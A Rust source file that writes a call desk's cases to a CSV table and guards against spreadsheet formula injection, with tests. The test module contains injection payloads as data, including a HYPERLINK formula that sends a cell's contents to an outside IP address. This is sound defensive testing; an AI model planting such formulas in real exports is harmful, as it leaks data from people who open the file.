//! The night as a table, one line a case, for a spreadsheet. It holds titles, which are callers' words: whoever takes it out
//! of the desk is on the audit trail.
//!
//! A spreadsheet takes a cell that begins with `=` and its like for a formula and runs it. A caller can have such a thing
//! written into a title; such a cell gets an apostrophe before it.

use std::collections::BTreeMap;

use desk::AccountId;
use desk::cases::ListedCase;
use flow::Agency;
use jiff::Timestamp;
use redact::Secret;

use super::numbers::Became;

const HEADINGS: [&str; 17] = [
    "Case",
    "Came by",
    "Began (Singapore)",
    "Ended (Singapore)",
    "Seconds",
    "Agency",
    "Urgent",
    "Title",
    "State",
    "Had by",
    "Came back",
    "Transferred",
    "Reached a person",
    "Cut off",
    "Outcome",
    "Open follow-ups",
    "Next due (Singapore)",
];

/// As RFC 4180 writes it, in UTF-8 with a mark at its start: without it Excel takes it for something else.
pub fn table(
    cases: &[(ListedCase, Became)],
    names: &BTreeMap<AccountId, String>,
) -> Secret<Vec<u8>> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer("\u{feff}".as_bytes().to_vec());
    let mut line = |cells: [String; 17]| {
        let written = writer.write_record(cells.iter().map(|cell| guarded(cell)));
        written.expect("a line of as many cells as the first is written to memory");
    };
    line(HEADINGS.map(String::from));
    for (listed, became) in cases {
        line(cells(listed, *became, names));
    }
    let table = writer
        .into_inner()
        .expect("memory takes all that is written");
    Secret::new(table)
}

fn cells(listed: &ListedCase, became: Became, names: &BTreeMap<AccountId, String>) -> [String; 17] {
    let case = &listed.case;
    let title = case.title().map(|title| title.expose_secret().clone());
    let had_by = case.taken_by.and_then(|id| names.get(&id).cloned());
    let lasted = case.ended_at.duration_since(case.started_at).as_secs();
    [
        case.call_id.to_string(),
        case.kind.to_string(),
        local(case.started_at),
        local(case.ended_at),
        lasted.max(0).to_string(),
        case.agency
            .map(Agency::as_str)
            .unwrap_or_default()
            .to_owned(),
        yes(case.urgent),
        title.unwrap_or_default(),
        case.state.to_string(),
        had_by.unwrap_or_default(),
        case.returned.to_string(),
        yes(became.transferred),
        yes(became.reached_a_person),
        yes(became.cut_off),
        case.closing
            .map(|closing| closing.outcome.to_string())
            .unwrap_or_default(),
        listed.open_follow_ups.to_string(),
        listed.next_due_at.map(local).unwrap_or_default(),
    ]
}

fn local(at: Timestamp) -> String {
    call::singapore_time(at)
        .strftime("%Y-%m-%d %H:%M")
        .to_string()
}

fn yes(it_is: bool) -> String {
    String::from(if it_is { "yes" } else { "no" })
}

/// What a spreadsheet would run, it shows.
pub fn guarded(cell: &str) -> String {
    let runs = |c: char| {
        matches!(
            c,
            '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠'
        )
    };
    match cell.starts_with(runs) {
        true => format!("'{cell}"),
        false => cell.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use desk::cases::{CaseContent, CaseState};

    use super::super::numbers::tests::case;
    use super::*;

    fn listed(title: &str) -> ListedCase {
        let mut case = case(Some(Agency::Pave), true, CaseState::Waiting);
        case.content = Some(CaseContent {
            machine_title: Some(Secret::new(title.to_owned())),
            ..CaseContent::default()
        });
        ListedCase {
            case,
            open_follow_ups: 1,
            next_due_at: Some("2026-11-25T01:30:00Z".parse().unwrap()),
            held: false,
        }
    }

    fn read(table: &Secret<Vec<u8>>) -> Vec<csv::StringRecord> {
        let table = table.expose_secret().strip_prefix("\u{feff}".as_bytes());
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(table.unwrap());
        reader.records().collect::<Result<_, _>>().unwrap()
    }

    #[test]
    fn a_case_is_a_line_under_the_headings() {
        let case = listed("Caller at home, \"alone\"\nwith a child");
        let lines = read(&table(
            &[(case.clone(), Became::default())],
            &BTreeMap::new(),
        ));
        assert_eq!(lines.len(), 2);
        assert_eq!(lines[0].len(), HEADINGS.len());
        let cell = |heading: &str| {
            let place = HEADINGS.iter().position(|it| *it == heading).unwrap();
            lines[1][place].to_owned()
        };
        assert_eq!(cell("Case"), case.case.call_id.to_string());
        assert_eq!(cell("Title"), "Caller at home, \"alone\"\nwith a child");
        assert_eq!(cell("Began (Singapore)"), "2026-11-24 23:00");
        assert_eq!(cell("Seconds"), "600");
        assert_eq!(cell("Next due (Singapore)"), "2026-11-25 09:30");
        assert_eq!(
            (cell("Agency"), cell("Urgent")),
            ("PAVE".into(), "yes".into())
        );
    }

    #[test]
    fn no_cell_is_a_formula() {
        for formula in [
            "=HYPERLINK(\"http://198.51.100.7/?\"&A1)",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
        ] {
            let lines = read(&table(
                &[(listed(formula), Became::default())],
                &BTreeMap::new(),
            ));
            for cell in &lines[1] {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']),
                    "{cell:?}"
                );
            }
            assert_eq!(&lines[1][7], format!("'{formula}"));
        }
    }
}
